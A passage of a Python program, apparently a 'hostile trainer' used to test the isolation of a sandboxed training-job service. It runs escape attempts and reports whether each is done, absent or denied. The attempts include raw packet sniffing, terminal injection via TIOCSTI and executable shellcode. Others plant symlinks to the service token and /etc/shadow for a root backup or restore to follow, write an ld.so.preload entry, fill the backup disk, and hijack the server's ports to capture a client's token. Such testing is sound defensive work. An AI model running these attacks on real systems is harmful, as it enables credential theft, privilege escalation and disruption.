        raise Absent(f"no such call on {MACHINE}")
    by_name, by_handle = numbers[MACHINE]
    handle, mount = words_of(120), ctypes.c_int()
    at = -100
    kernel(by_name, at, os.fsencode(__file__), handle, ctypes.byref(mount), 0)
    folder = os.open(os.path.dirname(os.path.abspath(__file__)), os.O_RDONLY)
    try:
        os.close(kernel(by_handle, folder, handle, os.O_RDONLY))
    finally:
        os.close(folder)
    return "this file"


@calls(103, 116)
def read_messages_of_kernel(number):
    size_of_buffer = 10
    return f"{kernel(number, size_of_buffer, None, 0)} bytes"


@calls(300, 262)
def watch_file_system(number):
    """With fanotify, of which kernels give a part to all users."""
    report_fid = 0x200
    os.close(kernel(number, report_fid, 0))
    return "fanotify_init"


@attempt("kernel")
def read_packets_of_network(_facts):
    """A socket that gets all packets, other programs' too."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)).close()
    return "AF_PACKET"


@attempt("kernel")
def change_its_network(_facts):
    """Set the flags of the loopback device to those that they are."""
    get_flags, set_flags = 0x8913, 0x8914
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        device = fcntl.ioctl(any_socket, get_flags, b"lo".ljust(40, b"\0"))
        fcntl.ioctl(any_socket, set_flags, device)
    return "the flags of lo"


@attempt("kernel")
def talk_to_hypervisor(_facts):
    """A socket to what runs this virtual machine."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "AF_VSOCK"


@calls(135, 92)
def make_data_executable(number):
    """READ_IMPLIES_EXEC, which the child takes along."""
    read_implies_exec = 0x0400000
    return in_child(lambda: f"personality, before {kernel(number, read_implies_exec)}")


@calls(154, None)
def read_local_descriptors(number):
    return f"{kernel(number, 0, words_of(), 128)} bytes of modify_ldt"


@attempt("kernel")
def call_as_32_bits(_facts):
    """Call getpid as programs of 32 bits do, whose calls have other numbers."""
    if MACHINE != "x86_64":
        raise Absent("only x86-64 lets a program do both")
    getpid = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret

    def call():
        rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        with mmap.mmap(-1, mmap.PAGESIZE, prot=rights) as page:
            page.write(getpid)
            start = ctypes.c_char.from_buffer(page)
            status = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(start))()
            del start
        if status < 0:
            raise Denied(os.strerror(-status))
        return f"process {status}"

    return in_child(call)


@attempt("kernel")
def type_into_terminal(_facts):
    """Put a character before the next reader of a terminal, its own one here."""
    tiocsti, set_controlling = 0x5412, 0x540E

    def type_it():
        os.setsid()
        _, terminal = os.openpty()  # the end of the other side would hang up
        fcntl.ioctl(terminal, set_controlling, 0)
        fcntl.ioctl(terminal, tiocsti, b"x")
        return "TIOCSTI"

    return in_child(type_it)


# ---- links for others to follow ----


@attempt("links")
def plant_links(facts):
    """Where the server reads for a caller: its own bucket, its work, what it exchanges."""
    exchange = os.path.dirname(os.environ["TRAINSHED_NOTICE_FILE"])
    places = {
        os.path.join(facts["own_bucket"], "link-to-token"): facts["token"],
        os.path.join(facts["own_bucket"], "link-to-folder"): facts["data"],
        os.path.join(os.getcwd(), "link-to-token"): facts["token"],
        os.path.join(exchange, "reduction.json"): facts["token"],
        os.path.join(exchange, "link-to-token"): facts["token"],
    }
    count = 0
    for place, target in places.items():
        with contextlib.suppress(FileExistsError):
            os.symlink(target, place)
        count += os.path.islink(place)
    return f"{count} links"


@attempt("links")
def lead_bucket_elsewhere(facts):
    """A bucket may be a folder of the machine: link from there to what only the server reads."""
    folder = facts["folder_bucket"]
    os.makedirs(folder, exist_ok=True)
    targets = {
        "token": facts["token"],
        "shadow": "/etc/shadow",
        "etc": "/etc",
        "home": facts["home"],
    }
    for name, target in targets.items():
        os.symlink(target, os.path.join(folder, name))
    answer = request(facts, "use folder bucket")
    if answer:
        return f"the server followed {answer}"
    raise Denied("the server follows no link")


#: Of a folder that a backup has: what a restore makes of the link in its place.
RESTORED = "to-be-restored"


@attempt("restarts")
def lead_backup_elsewhere(facts):
    """Have root's backup read what a link leads to."""
    folder = os.path.join(facts["own_bucket"], RESTORED)
    os.mkdir(folder)
    with open(os.path.join(folder, "ld.so.preload"), "w") as file:
        file.write("/tmp/hostile.so")
    for name, target in {"token": facts["token"], "all": facts["data"]}.items():
        os.symlink(target, os.path.join(folder, name))
    answer = backup(facts)
    if answer["followed"]:
        return f"the backup has {answer['followed']}"
    raise Denied("the backup follows no link")


@functools.lru_cache(maxsize=1)
def backup_of(bucket):
    """One backup does for all attempts; a file of holes lies in its way."""
    with open(os.path.join(bucket, "holes"), "wb") as file:
        file.truncate(2 << 30)
    return request({"own_bucket": bucket}, "back up")


def backup(facts):
    return backup_of(facts["own_bucket"])


@attempt("restarts")
def swell_backup(facts):
    """Have a file of holes fill the disk that backups lie on."""
    count = backup(facts)["bytes_of_holes"]
    if count > 1 << 20:
        return f"{count} bytes"
    raise Denied(f"{count} bytes are backed up of a file of 2 GiB that is a hole")


@attempt("restarts")
def lead_restore_elsewhere(facts):
    """Have root's restore write where a link leads, with the name that the job has chosen."""
    folder = os.path.join(facts["own_bucket"], RESTORED)
    backup(facts)
    os.rename(folder, f"{folder}-before")
    os.symlink(facts["home"], folder)
    answer = request(facts, "restore")
    if answer["made"]:
        return f"root has made {answer['made']}"
    raise Denied("the restore follows no link")


# ---- ports while the server is away ----


def bound(port):
    """Listen at a port, in each of the ways that there are.  Raises OSError."""
    ways = ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT))
    for host, options in itertools.product(("127.0.0.1", ""), ways):
        listener = socket.socket()
        try:
            for option in options:
                listener.setsockopt(socket.SOL_SOCKET, option, 1)
            listener.bind((host, port))
            listener.listen(16)
        except OSError as error:
            listener.close()
            fault = error
        else:
            listener.settimeout(1)  # the caller has connected by then
            return listener
    raise fault


def bound_soon(port, rounds):
    """Try in a loop, as a job does that waits for a server to be killed."""
    for _ in range(rounds):
        with contextlib.suppress(OSError):
            return bound(port)
    return bound(port)


@functools.lru_cache(maxsize=1)
def thefts_of(bucket, ports, holder, rounds):
    """What came to the ports of the server while it was away: by port, bytes or a fault."""
    facts = {"own_bucket": bucket}
    request(facts, "kill server")
    with contextlib.suppress(OSError):
        os.kill(holder, signal.SIGKILL)  # without it the ports would be free
    listeners, came = {}, {}
    for port in ports:
        try:
            listeners[port] = bound_soon(port, rounds)
        except OSError as error:
            came[port] = error
    request(facts, "call server")
    for port, listener in listeners.items():
        try:
            with listener, listener.accept()[0] as client:
                came[port] = client.recv(1 << 12).decode()
        except OSError as error:
            came[port] = error
    request(facts, "start server")
    return came


def steal(facts, port):
    ports = tuple(filter(None, (facts["server_port"], facts["gateway_port"])))
    came = thefts_of(facts["own_bucket"], ports, facts["holder"]["pid"], facts["rounds"])[port]
    if isinstance(came, OSError):
        raise came
    return f"got {came[:80]!r}"


@attempt("restarts")
def steal_port_of_api(facts):
    """Bind in a loop to the port of a server that was killed; a client calls it with its token."""
    return steal(facts, facts["server_port"])


@attempt("restarts")
def steal_port_of_gateway(facts):
    if not facts["gateway_port"]:
        raise Absent("there is no gateway")
    return steal(facts, facts["gateway_port"])


def facts_of(path):
    """The facts, which may be written only when the job runs."""
    until = time.monotonic() + FACTS_S_MAX
    while True:
        with contextlib.suppress(OSError, ValueError), open(path) as file:
            return json.load(file)
        if time.monotonic() > until:
            raise SystemExit(f"no facts in {path}")
        time.sleep(0.05)


def environment():
    """The folder of packages that this module was imported from, if it is one."""
    folder = os.path.dirname(os.path.abspath(__file__))
    is_package = os.path.exists(os.path.join(folder, "__init__.py"))
    return os.path.dirname(folder) if is_package else None


def built():
    """What was found when the package was built, if this is one."""
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "built.json")
    with contextlib.suppress(OSError), open(path) as file:
        return json.load(file)
    return []


def outcome_of(name, facts):
    """One attempt, in the words of the report."""
    try:
        outcome, detail = "done", ATTEMPTS[name][1](facts)
    except Absent as error:
        outcome, detail = "absent", str(error)
    except (Denied, OSError) as error:
        outcome, detail = "denied", str(error)
    return {"attempt": name, "outcome": outcome, "detail": detail}


def outcomes(facts, groups=()):
    """Try everything, or what belongs to some groups."""
    for name, (group, _) in ATTEMPTS.items():
        if not groups or group in groups:
            yield outcome_of(name, facts)


def main():
    """Try, and report as it goes."""
    print("hostile trainer is up", flush=True)
    path, *groups = sys.argv[1:]
    facts = facts_of(path)
    facts["own_folder"] = os.path.join(own_attempt(), "work")
    os.chdir(facts["own_folder"])
    facts["own_environment"] = environment()
    for outcome in built():
        print("built " + json.dumps(outcome), flush=True)
    for outcome in outcomes(facts, groups):
        print("tried " + json.dumps(outcome), flush=True)
    print("hostile trainer is done", flush=True)


if __name__ == "__main__":
    main()
